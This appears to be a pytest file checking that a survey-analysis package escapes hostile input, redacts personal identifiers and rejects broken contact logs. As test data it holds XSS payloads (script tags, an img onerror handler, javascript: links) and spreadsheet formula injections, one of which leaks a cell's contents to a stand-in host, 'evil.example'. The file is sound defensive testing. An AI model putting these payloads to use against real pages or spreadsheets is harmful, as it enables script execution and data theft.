"""Hostile and broken input (issue 19), one parametrised corpus per concern: a new case is one line.

- Markup in labels and text never runs: ``describe_*`` texts escape data values
  (:func:`cxlab._text.md`), and in headless Chromium no payload script runs in any report.
- Identifiers outside the declared identifier columns are found (e-mail, obfuscated
  e-mail, phone, IBAN, customer-number shape, known names) and dropped with a note or
  refused; free text and segment labels are redacted with the same rules.
- CSV cells cxlab writes cannot run as spreadsheet formulas.
- ``cxlab check`` and ``cxlab run`` name a broken contact log instead of a traceback;
  the raw files stay byte-identical and previous reports and processed data unchanged.
- Degenerate data (items without answers or variation, n = 25, one wave) give a typed
  error naming the items, or a stated result.
"""

from __future__ import annotations

import csv
import hashlib
import re
from html import unescape
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
import yaml

from conftest import cxlab_cmd

SCRIPT = "<script>window.__x=1</script>"
IMG = '<img src=x onerror="window.__x=1">'
LINK = "[a](javascript:window.__x=1)"
PAYLOADS = (SCRIPT, IMG, LINK)


# ============================================================================ helpers
def digest(folder: Path) -> dict[str, str]:
    """sha256 of every file under ``folder`` (relative path -> hex)."""
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file()}


def study_dir(project: Path) -> Path:
    return project / "data" / "raw" / "demo"


def edit_yaml(project: Path, change) -> None:
    path = study_dir(project) / "study.yaml"
    doc = yaml.safe_load(path.read_text())
    change(doc)
    path.write_text(yaml.safe_dump(doc, sort_keys=False, allow_unicode=True))


def edit_survey(project: Path, change) -> None:
    path = study_dir(project) / "survey.csv"
    df = pd.read_csv(path, dtype=str, keep_default_na=False)
    df = change(df)
    df.to_csv(path, index=False)


def edit_contacts(project: Path, change) -> None:
    path = study_dir(project) / "contacts.parquet"
    change(pd.read_parquet(path)).to_parquet(path, index=False)


def cycle(values, n):
    return [values[i % len(values)] for i in range(n)]


def add_column(name, values):
    return lambda p: edit_survey(p, lambda df: df.assign(**{name: cycle(values, len(df))}))


def add_name_column(p):
    """A declared identifier column ``full_name`` and an undeclared ``contact_person`` with the same names."""
    names = ["Jan Kok", "Ann de Vries", "Piet Bakker"]
    edit_survey(p, lambda df: df.assign(full_name=cycle(names, len(df)), contact_person=cycle(names[::-1], len(df))))
    edit_yaml(p, lambda d: d["codebook"]["identifiers"].append("full_name"))


def policy(value):
    return lambda p: edit_yaml(p, lambda d: d["codebook"].__setitem__("on_invalid", {"undeclared_identifier": value}))


def both(*steps):
    def run(p):
        for step in steps:
            step(p)
    return run


def segment_label(old, new):
    return lambda p: edit_survey(p, lambda df: df.assign(segment=df["segment"].replace(old, new)))


def truncate_contacts(p):
    path = study_dir(p) / "contacts.parquet"
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2])


def garble_contacts(p):
    (study_dir(p) / "contacts.parquet").write_bytes(b"PAR1" + b"\x00garbage" * 100)


def drop_contact_column(col):
    return lambda p: edit_contacts(p, lambda c: c.drop(columns=[col]))


def text_timestamps(bad: bool):
    def change(c):
        ts = c["started_at"].astype(str)
        if bad:
            ts = ts.where(c.index % 1000 != 0, "gisteren")
        return c.assign(started_at=ts)
    return lambda p: edit_contacts(p, change)


# ============================================================================ check corpus
# (id, how the study copy is made hostile, exit code of `cxlab check`, what the output must say)
CHECK_CASES = [
    ("contacts-no-started_at", drop_contact_column("started_at"), 1, r"contacts\.parquet: column\(s\) missing: 'started_at'"),
    ("contacts-no-customer_id", drop_contact_column("customer_id"), 1, r"contacts\.parquet: column\(s\) missing: 'customer_id'"),
    ("contacts-text-timestamps-bad", text_timestamps(bad=True), 1, r"column 'started_at': \d+ value\(s\) that are not timestamps \(e\.g\. 'gisteren'\)"),
    ("contacts-text-timestamps-ok", text_timestamps(bad=False), 0, r"OK \(study 'demo'"),
    ("contacts-waits-as-text", lambda p: edit_contacts(p, lambda c: c.assign(queue_wait_sec=c["queue_wait_sec"].astype(str))), 1, r"column 'queue_wait_sec': must be numbers"),
    ("contacts-truncated", truncate_contacts, 1, r"contacts\.parquet: cannot be read as a contact log"),
    ("contacts-garbage", garble_contacts, 1, r"contacts\.parquet: cannot be read as a contact log"),
    ("contacts-renamed-column-absent", lambda p: edit_yaml(p, lambda d: d["data"].__setitem__("contacts", {"path": "contacts.parquet", "columns": {"customer_id": "klant"}})), 1, r"column\(s\) 'klant' named in 'columns' not found"),
    ("undeclared-email", add_column("contact", ["jan.kok@example.com", "", "a.b@example.org"]), 0, r"undeclared_identifier \(e-mail\)\s+contact\s+\d+.*drop column"),
    ("undeclared-email-obfuscated", add_column("contact", ["jan(at)example.com", "piet [at] example [dot] nl"]), 0, r"undeclared_identifier \(e-mail\)\s+contact"),
    ("undeclared-phone", add_column("tel", ["06-12345678", "+31 (0)20 123 4567"]), 0, r"undeclared_identifier \(phone\)\s+tel"),
    ("undeclared-iban", add_column("bank", ["NL91ABNA0417164300", "DE89 3704 0044 0532 0130 00"]), 0, r"undeclared_identifier \(IBAN\)\s+bank"),
    ("undeclared-names-of-declared-column", add_name_column, 0, r"undeclared_identifier \(identifier\)\s+contact_person"),
    ("undeclared-customer-ids", lambda p: edit_survey(p, lambda df: df.assign(klantnr=df["customer_id"])), 0, r"undeclared_identifier \(identifier\)\s+klantnr"),
    ("undeclared-customer-number-shape", add_column("ref", ["C999999", "C999998"]), 0, r"undeclared_identifier \(customer id\)\s+ref"),
    ("undeclared-harmless", add_column("region", ["north", "south"]), 0, r"^(?![\s\S]*undeclared_identifier)[\s\S]*OK"),
    ("undeclared-email-refused", both(add_column("contact", ["jan.kok@example.com"]), policy("error")), 1, r"column 'contact': 2000 value\(s\) in a column the codebook does not declare holding e-mail at row\(s\) 2, 3, 4"),
    ("segment-label-email", segment_label("premium", "premium jan.kok@example.com"), 0, r"undeclared_identifier \(e-mail\)\s+segment\s+\d+.*redact"),
    ("segment-label-name", both(add_name_column, segment_label("premium", "Jan Kok VIP")), 0, r"undeclared_identifier \(identifier\)\s+segment\s+\d+.*redact"),
    ("segment-label-email-refused", both(segment_label("premium", "vip jan(at)example.com"), policy("error")), 1, r"column 'segment': \d+ segment label\(s\) holding e-mail"),
    ("survey-and-contacts-both-reported", both(lambda p: edit_survey(p, lambda df: df.assign(wave=df["wave"].replace("2", SCRIPT))), drop_contact_column("started_at")), 1, r"not a whole-number wave[\s\S]*column\(s\) missing: 'started_at'"),
    ("wave-script", lambda p: edit_survey(p, lambda df: df.assign(wave=df["wave"].replace("2", SCRIPT))), 1, r"column 'wave': \d+ value\(s\) that are not a whole-number wave"),
]


@pytest.mark.parametrize("make_hostile, code, expected", [c[1:] for c in CHECK_CASES], ids=[c[0] for c in CHECK_CASES])
def test_check_corpus(project, make_hostile, code, expected, monkeypatch, capsys):
    """`cxlab check` in this process (the run cases below use the real command): an exception would fail here."""
    from cxlab.cli import main

    monkeypatch.setenv("CXLAB_ROOT", str(project))
    make_hostile(project)
    raw = digest(study_dir(project))
    returncode = main(["check", str(study_dir(project) / "study.yaml")])
    captured = capsys.readouterr()
    out = captured.out + captured.err
    assert returncode == code, out
    assert re.search(expected, out, re.MULTILINE), out
    assert "Traceback" not in out
    assert digest(study_dir(project)) == raw


# The same inputs through `cxlab run`: it stops before anything is written
RUN_CASES = [c for c in CHECK_CASES if c[0] in ("contacts-no-started_at", "contacts-no-customer_id",
                                                   "contacts-text-timestamps-bad", "contacts-truncated",
                                                   "undeclared-email-refused")]


@pytest.mark.parametrize("make_hostile, code, expected", [c[1:] for c in RUN_CASES], ids=[c[0] for c in RUN_CASES])
def test_run_stops_on_broken_contact_log_and_keeps_previous_outputs(project, make_hostile, code, expected):
    reports, processed = project / "reports" / "demo", project / "data" / "processed" / "demo"
    for folder in (reports, processed):  # stand-ins for a previous run's outputs
        folder.mkdir(parents=True)
        (folder / "index.html").write_text("<p>previous</p>")
    make_hostile(project)
    before = {"raw": digest(study_dir(project)), "reports": digest(reports), "processed": digest(processed)}
    done = cxlab_cmd("run", "--only", "01_data_quality", "--out", project / "reports", env={"CXLAB_ROOT": str(project)})
    out = done.stdout + done.stderr
    assert done.returncode == 1, out
    assert re.search(expected, out), out
    assert "Traceback" not in out
    assert {"raw": digest(study_dir(project)), "reports": digest(reports), "processed": digest(processed)} == before


def _log(**change):
    from cxlab.contacts import REQUIRED_COLUMNS

    values = {"any": ["x"], "string": ["phone"], "timestamp": [pd.Timestamp("2025-01-01", tz="UTC")],
              "numeric": [1.0], "boolean": [False]}
    return pd.DataFrame({c: values[k] for c, k in REQUIRED_COLUMNS.items()}).assign(**change)


# (contact log in any form validate_contacts accepts, what it must say; None: usable)
CONTACT_SOURCES = [
    ("frame-ok", lambda tmp: _log(), None),
    ("frame-no-customer", lambda tmp: _log().drop(columns="customer_id"), r"column\(s\) missing: 'customer_id'"),
    ("frame-flags-as-text", lambda tmp: _log(abandoned=["no"]), r"column 'abandoned': must be true/false"),
    ("csv-bad-timestamp", lambda tmp: (_log(started_at=["gisteren"]).to_csv(tmp / "log.csv", index=False), tmp / "log.csv")[1], r"log\.csv, column 'started_at': 1 value\(s\) that are not timestamps"),
    ("database-no-table", lambda tmp: (__import__("duckdb").connect(str(tmp / "db.duckdb")).close(), (tmp / "db.duckdb", "contacts"))[1], r"table 'contacts': cannot be read as a contact log from .*db\.duckdb \(TableNotFound"),
    ("file-missing", lambda tmp: tmp / "absent.parquet", r"Contact log not found: .*absent\.parquet"),
]


@pytest.mark.parametrize("make, expected", [c[1:] for c in CONTACT_SOURCES], ids=[c[0] for c in CONTACT_SOURCES])
def test_validate_contacts_corpus(tmp_path, make, expected):
    from cxlab.contacts import validate_contacts

    problems = validate_contacts(make(tmp_path))
    if expected is None:
        assert problems == []
    else:
        assert len(problems) == 1 and re.search(expected, problems[0]), problems


# ============================================================================ processed data
def test_processed_data_holds_no_identifier_and_no_formula(project, monkeypatch):
    """Undeclared identifier columns dropped, free text and segment labels redacted, CSVs formula-safe."""
    from cxlab.data import prepare
    from cxlab.study import load_study

    monkeypatch.setenv("CXLAB_ROOT", str(project))
    monkeypatch.setenv("CXLAB_SECRET", "t" * 64)
    texts = ["Jan Kok here, mail jan(at)example.com", "IBAN NL91 ABNA 0417 1643 00 please",
             "my number is C999999, call +31 20 123 4567", "Ann de Vries: a.devries [at] example [dot] com",
             "fine, 4 stars on 2025-06-02 10:15"]
    formula = '=HYPERLINK("http://evil.example/?leak="&A1)'

    def hostile(df):
        n = len(df)
        return df.assign(full_name=cycle(["Jan Kok", "Ann de Vries", "Piet Bakker"], n),
                         comment=cycle(texts, n), contact=cycle(["x@example.com", ""], n),
                         region=cycle(["north", formula, "-2+3", "@SUM(A1)"], n),
                         segment=df["segment"].replace("premium", "premium jan.kok@example.com"),
                         **{formula: cycle(["1", "2"], n)})

    edit_survey(project, hostile)
    edit_yaml(project, lambda d: d["codebook"].update(identifiers=["email", "full_name"], free_text=["comment"]))
    raw = digest(study_dir(project))
    prepared = prepare(load_study(study_dir(project) / "study.yaml"))
    assert digest(study_dir(project)) == raw
    survey = pd.read_parquet(prepared.survey)
    assert "contact" not in survey.columns and "full_name" not in survey.columns and "region" in survey.columns
    comments = survey["comment"].dropna().unique().tolist()
    assert set(comments) == {"[identifier] here, mail [e-mail]", "IBAN [IBAN] please",
                             "my number is [customer id], call [phone]", "[identifier]: [e-mail]",
                             "fine, 4 stars on 2025-06-02 10:15"}
    everything = survey.astype(str).to_csv()
    for leak in ("@example", "(at)", "[at]", "NL91", "Jan Kok", "Ann de Vries", "123 4567", "C999999"):
        assert leak not in everything, leak
    assert "premium [e-mail]" in set(survey["segment"])
    quality = pd.read_csv(prepared.directory / "quality.csv", dtype=str, keep_default_na=False)
    noted = quality.set_index("column")["problem"].to_dict()
    assert noted["contact"] == "undeclared_identifier (e-mail)" and noted["segment"] == "undeclared_identifier (e-mail)"
    cells = {}
    for name in ("dictionary.csv", "quality.csv", "contact_problems.csv"):
        with open(prepared.directory / name, newline="", encoding="utf-8") as fh:
            cells[name] = [cell for row in csv.reader(fh) for cell in row]
        risky = [c for c in cells[name] if c[:1] in ("=", "+", "@", "\t", "\r")
                 or (c[:1] == "-" and not re.fullmatch(r"-\d+(\.\d+)?(e-?\d+)?", c))]
        assert risky == [], (name, risky)
    assert "'" + formula in cells["dictionary.csv"]  # the column name, neutralised


# ============================================================================ identifier corpus
RULES_SOURCE = pd.DataFrame({"full_name": ["Jan Kok", "Ann de Vries", "Li"],
                             "customer_id": ["C018471", "C000002", "C123456"]})
# (text, kind found or None, redacted text)
IDENTIFIERS = [
    ("mail jan.kok@example.com please", "e-mail", "mail [e-mail] please"),
    ("jan.kok(at)example.com", "e-mail", "[e-mail]"),
    ("name(at)example", "e-mail", "[e-mail]"),
    ("jan (at) example (dot) com", "e-mail", "[e-mail]"),
    ("name [at] example [dot] com", "e-mail", "[e-mail]"),
    ("name{at}example.nl", "e-mail", "[e-mail]"),
    ("schrijf piet at example dot nl", "e-mail", "schrijf [e-mail]"),
    ("bel 06-12345678", "phone", "bel [phone]"),
    ("call +31 (0)20 123 4567 today", "phone", "call [phone] today"),
    ("0031 20 1234567", "phone", "[phone]"),
    ("IBAN NL91ABNA0417164300", "IBAN", "IBAN [IBAN]"),
    ("NL91 ABNA 0417 1643 00 graag", "IBAN", "[IBAN] graag"),
    ("de89 3704 0044 0532 0130 00", "IBAN", "[IBAN]"),
    ("klantnummer C777777 graag", "customer id", "klantnummer [customer id] graag"),
    ("my id is c018471", "identifier", "my id is [identifier]"),
    ("Jan Kok helped me", "identifier", "[identifier] helped me"),
    ("ANN DE VRIES was rude", "identifier", "[identifier] was rude"),
    ("fine, 4 stars on 2025-06-01", None, "fine, 4 stars on 2025-06-01"),
    ("at 2025-06-02 10:15:00 I called", None, "at 2025-06-02 10:15:00 I called"),
    ("order 1234 of 12 items", None, "order 1234 of 12 items"),
    ("NL12 have been fixed soon", None, "NL12 have been fixed soon"),
    ("look at this, Li", None, "look at this, Li"),
    ("Jankok and Vries alone", None, "Jankok and Vries alone"),
]


@pytest.mark.parametrize("text, kind, redacted", IDENTIFIERS, ids=[t for t, _, _ in IDENTIFIERS])
def test_identifier_corpus(text, kind, redacted):
    from cxlab.privacy import find_identifiers, identifier_rules, redact_text

    rules = identifier_rules(RULES_SOURCE, ["full_name", "customer_id"], id_column="customer_id")
    found = find_identifiers([text], rules=rules).iloc[0]
    kinds = [] if kind is None else [kind] if isinstance(kind, str) else list(kind)
    assert found[found].index.tolist() == kinds
    assert redact_text([text], rules=rules).tolist() == [redacted]


# ============================================================================ CSV corpus
# (cell as written by a user, cell as cxlab writes it to CSV)
FORMULAS = [
    ('=HYPERLINK("http://x/?leak="&A1)', '\'=HYPERLINK("http://x/?leak="&A1)'),
    ("+1+1", "'+1+1"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("-1.5", "'-1.5"),  # text that looks like a number stays text, and safe
    ("plain", "plain"),
    ("a=b", "a=b"),
]


@pytest.mark.parametrize("cell, written", FORMULAS, ids=[repr(c) for c, _ in FORMULAS])
def test_csv_cells_cannot_run_as_formulas(tmp_path, cell, written):
    from cxlab._text import write_csv

    frame = pd.DataFrame({"text": [cell], "number": [-1.5], cell: [1]})
    write_csv(frame, tmp_path / "x.csv")
    with open(tmp_path / "x.csv", newline="", encoding="utf-8") as fh:
        header, row = list(csv.reader(fh))
    assert row == [written, "-1.5", "1"]          # numbers stay numbers
    assert header[2] == written                   # column names too


# ============================================================================ markup corpus
def _rendered(markdown: str) -> str:
    from nbconvert.filters import markdown2html

    return markdown2html(markdown)


def _safe(html: str) -> bool:
    return "<script" not in html and "<img" not in html and 'href="javascript' not in html


def _changes(label):
    return pd.DataFrame({"metric": "nps", "group": label, "period": f"wave {label}", "comparison": "previous",
                         "reference": label, "reference_value": 10.0, "value": 20.0, "diff": 10.0, "ci_lower": 5.0,
                         "ci_upper": 15.0, "pvalue_adj": 0.001, "significant": True}, index=[0])


def _validity(label):
    return pd.DataFrame({"composite_reliability": [.6], "ave": [.4], "cr_ok": [False], "ave_ok": [False],
                         "sqrt_ave": [.6], "max_correlation": [.9], "max_correlation_with": [label],
                         "fornell_larcker": [False], "max_htmt": [.95], "max_htmt_with": [label]},
                        index=pd.Index([label], name="factor"))


def _describe_quality(label):
    from cxlab.quality import describe_quality, flags_summary, missingness

    s = pd.DataFrame({"w": [1, 2], "seg": [label, "b"], "a": [1, None]})
    return describe_quality(s, missing=missingness(s, {label: ["a"]}), wave="w", group="seg",
                            flags=flags_summary({label: pd.Series([True, False])}))


def _servqual(label):
    from cxlab.servqual import describe

    return describe(gaps=pd.DataFrame({"gap": [-0.9, 0.2], "ci_lower": [-1.0, 0.1], "ci_upper": [-0.8, 0.3]},
                                      index=pd.Index([label, "x"], name="dimension")))


def _levers(label):
    from cxlab.levers import describe_levers, rank_levers_result

    rng = np.random.default_rng(7)
    df = pd.DataFrame({label: rng.normal(5, 1, 300), "waits": rng.poisson(0.4, 300)})
    df["sat"] = 0.5 * df[label] - 0.3 * df["waits"] + rng.normal(0, 0.5, 300)
    return describe_levers(rank_levers_result(df, "sat", [label], ["waits"], n_boot=20, seed=1)).text


def _fit_text(label):
    from types import SimpleNamespace

    from cxlab.sem import describe_fit

    return describe_fit(SimpleNamespace(converged=False, warnings=[f"Heywood case: {label}"]))


def _as_words(label):
    """describe_levers writes variable names as words (``repeat_contacts`` -> repeat contacts)."""
    return " ".join(label.replace("_", " ").split())


# (describe function, how the payload gets in, how the payload reads in the text):
# every Markdown text built from data values
DESCRIBERS = [
    ("levers.describe_levers", _levers, _as_words),
    ("sem.describe_fit", _fit_text, str),
    ("monitor.describe_changes", lambda label: __import__("cxlab.monitor").monitor.describe_changes(_changes(label), group=None), str),
    ("reliability.describe_validity", lambda label: __import__("cxlab.reliability").reliability.describe_validity(_validity(label)), str),
    ("quality.describe_quality", _describe_quality, str),
    ("servqual.describe", _servqual, str),
]


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("describe, shown", [d[1:] for d in DESCRIBERS], ids=[d[0] for d in DESCRIBERS])
def test_describe_texts_escape_data_values(describe, shown, payload):
    html = _rendered(describe(payload))
    assert _safe(html), html
    assert shown(payload) in unescape(re.sub(r"<[^>]+>", "", html)), html  # shown as text


def test_methods_section_escapes_missing_codes(project, monkeypatch):
    from cxlab.report import methods_section
    from cxlab.study import load_study

    monkeypatch.setenv("CXLAB_ROOT", str(project))
    edit_yaml(project, lambda d: d["codebook"]["missing_codes"].extend(list(PAYLOADS)))
    html = _rendered(methods_section(load_study(study_dir(project) / "study.yaml"), "data_quality"))
    assert _safe(html), html


def test_index_page_escapes_titles_and_summaries(project, monkeypatch, tmp_path):
    """The index page, even for a summary cell that wrote raw HTML or a script link itself."""
    from cxlab.report import write_index
    from cxlab.runner import NotebookRun
    from cxlab.study import load_study

    monkeypatch.setenv("CXLAB_ROOT", str(project))
    edit_yaml(project, lambda d: d.update(title=f"T {SCRIPT}", description=f"{IMG} {LINK}"))
    run = NotebookRun(name="01_x", seconds=1.0, html="01_x.html", title=SCRIPT,
                      summary=f"**NPS** rose. {SCRIPT} {IMG} {LINK} <javascript:window.__x=1>")
    write_index(tmp_path / "index.html", study=load_study(study_dir(project) / "study.yaml"), runs=[run],
                seconds=1.0, code=False)
    page = (tmp_path / "index.html").read_text()
    assert _safe(page) and "<strong>NPS</strong>" in page
    assert page.count("&lt;script&gt;window.__x=1&lt;/script&gt;") == 4  # title, heading, report link, summary


# ============================================================================ degenerate data
def _items(n=300, seed=1):
    rng = np.random.default_rng(seed)
    f = rng.normal(size=(n, 1))
    return pd.DataFrame(np.clip(np.round(4 + f + rng.normal(size=(n, 4))), 1, 7), columns=list("abcd"))


ALL_MISSING = _items().assign(e=np.nan)
CONSTANT = _items().assign(e=4.0)
COPY = _items().assign(e=_items()["a"])
WIDE = pd.DataFrame(np.random.default_rng(2).normal(size=(10, 12)), columns=[f"x{i}" for i in range(12)])
# (call, data, the error it must raise and its message; None: it must work)
DEGENERATE = [
    ("factor.kmo", ALL_MISSING, r"'e' with no answers"),
    ("factor.bartlett", ALL_MISSING, r"'e' with no answers"),
    ("factor.efa", ALL_MISSING, r"'e' with no answers"),
    ("factor.parallel_analysis", ALL_MISSING, r"'e' with no answers"),
    ("reliability.alpha", ALL_MISSING, r"items without any answer \['e'\]"),
    ("reliability.omega", ALL_MISSING, r"items without any answer \['e'\]"),
    ("factor.kmo", CONSTANT, r"'e' with the same answer from everyone \(4\)"),
    ("factor.bartlett", CONSTANT, r"'e' with the same answer from everyone \(4\)"),
    ("factor.efa", CONSTANT, r"'e' with the same answer from everyone \(4\)"),
    ("factor.parallel_analysis", CONSTANT, r"'e' with the same answer from everyone \(4\)"),
    ("reliability.alpha", CONSTANT, r"constant \(or empty\) columns \['e'\]"),
    ("reliability.alpha_table", CONSTANT, r"constant \(or empty\) columns \['e'\]"),
    ("factor.kmo", COPY, r"invertible correlation matrix\. Got a singular one \(300 complete rows for 5 items"),
    ("factor.bartlett", COPY, r"invertible correlation matrix"),
    ("factor.kmo", WIDE, r"10 complete rows for 12 items"),
    ("factor.kmo", _items(25), None),
    ("factor.bartlett", _items(25), None),
    ("factor.efa", _items(25), None),
    ("factor.parallel_analysis", _items(25), None),
    ("reliability.alpha", _items(25), None),
    ("reliability.omega", _items(25), None),
]
_ARGS = {"factor.efa": (1,), "factor.parallel_analysis": ()}
_KW = {"factor.parallel_analysis": {"n_iter": 5, "seed": 1}}


@pytest.mark.parametrize("call, data, message", DEGENERATE, ids=[f"{c}-{i}" for i, (c, _, _) in enumerate(DEGENERATE)])
def test_degenerate_data_gives_a_named_error_or_a_result(call, data, message):
    import cxlab
    from cxlab.factor import DegenerateDataError

    module, name = call.split(".")
    fn = getattr(getattr(cxlab, module), name)
    if message is None:
        assert fn(data, *_ARGS.get(call, ()), **_KW.get(call, {})) is not None
        return
    with pytest.raises(DegenerateDataError, match=message):
        fn(data, *_ARGS.get(call, ()), **_KW.get(call, {}))


def test_degenerate_items_dropped_with_a_note_then_analysed():
    from cxlab.factor import drop_degenerate_items, kmo

    data = _items().assign(e=np.nan, f=4.0)
    kept, notes = drop_degenerate_items(data)
    assert list(kept.columns) == list("abcd")
    assert notes.to_dict("records") == [{"item": "e", "reason": "no answers"},
                                        {"item": "f", "reason": "the same answer from everyone (4)"}]
    overall, _ = kmo(kept)
    assert 0.5 < overall < 1


def test_one_wave_says_there_is_no_change_to_test():
    from cxlab import monitor

    rng = np.random.default_rng(1)
    s = pd.DataFrame({"wave": 1, "nps": rng.integers(0, 11, 300), "seg": rng.choice(["a", "b"], 300),
                      "date": pd.Timestamp("2025-01-01") + pd.to_timedelta(rng.integers(0, 20, 300), "D")})
    for by in (None, "seg"):
        table = monitor.trends(s, metrics={"nps": "nps"}, group=by, total=by is None, wave="wave", date="date")
        changes = monitor.compare_periods_result(table)
        assert changes.table.empty and changes.n_periods == 1
        assert monitor.describe_changes(changes, group=None) == "Only one wave: no change to test."
        assert monitor.describe_changes(changes) == "Only one wave: no change to test."


# ============================================================================ reports in a browser
#: Notebooks that show labels from the data (segments, scales, the study's title and codes).
BROWSER_NOTEBOOKS = ("01_data_quality", "03_sem_drivers", "04_contact_levers", "05_monitoring")


def _inject_payloads(project: Path) -> None:
    """Payloads in every label and text field of the study copy."""
    segments = {"premium": SCRIPT, "consumer": IMG, "small_business": LINK}
    edit_survey(project, lambda df: df.assign(segment=df["segment"].replace(segments),
                                              comment=cycle(list(PAYLOADS), len(df))))

    def study(d):
        d["title"] = f"Study {SCRIPT}</title>{SCRIPT}"
        d["description"] = f"{IMG} {LINK}"
        cb = d["codebook"]
        cb["free_text"] = ["comment"]
        cb["missing_codes"] = [*cb["missing_codes"], SCRIPT]
        cb["scales"] = {(IMG if k == "intention_to_stay" else k): v for k, v in cb["scales"].items()}
        d["parameters"]["loyalty"] = IMG

    edit_yaml(project, study)


@pytest.mark.slow
def test_payloads_never_run_in_chromium(project):
    from playwright.sync_api import sync_playwright

    from cxlab.browser import ARGS, ensure_chromium

    try:
        chromium = ensure_chromium()
    except RuntimeError as exc:  # pragma: no cover - only where apt-get cannot run
        pytest.skip(f"headless Chromium unavailable: {exc}")
    _inject_payloads(project)
    out = project / "reports"
    args = [a for nb in BROWSER_NOTEBOOKS for a in ("--only", nb)]
    done = cxlab_cmd("run", *args, "--out", out, env={"CXLAB_ROOT": str(project), "CXLAB_SECRET": "t" * 64})
    assert done.returncode == 0, done.stderr
    assert "Traceback" not in done.stdout + done.stderr
    pages = [out / "demo" / "index.html", *(out / "demo" / f"{nb}.html" for nb in BROWSER_NOTEBOOKS)]
    seen = {}
    with sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=chromium, headless=True, args=ARGS)
        for path in pages:
            page = browser.new_page()
            dialogs = []
            page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
            page.goto(path.as_uri(), wait_until="load")
            page.wait_for_timeout(200)
            state = page.evaluate("""() => ({
                ran: typeof window.__x !== 'undefined',
                text: document.title + '\\n' + document.body.innerText,
                scripts: Array.from(document.scripts).map(s => s.textContent).filter(t => t.includes('__x')).length,
                handlers: document.querySelectorAll('[onerror]').length,
                links: Array.from(document.links).filter(a => a.href.startsWith('javascript:')).length })""")
            page.close()
            assert not state["ran"] and not dialogs, path.name
            assert state["scripts"] == state["handlers"] == state["links"] == 0, (path.name, state)
            seen[path.name] = state["text"]
        browser.close()
    assert SCRIPT in seen["index.html"]                                     # the title, as text
    assert IMG in seen["index.html"] and LINK in seen["index.html"]         # the description
    assert all(p in seen["05_monitoring.html"] for p in PAYLOADS)          # segment labels in tables and text
    assert IMG in seen["01_data_quality.html"]                              # a scale name
    for name in ("03_sem_drivers.html", "04_contact_levers.html"):         # segments in tables
        assert any(p in seen[name] for p in PAYLOADS), name
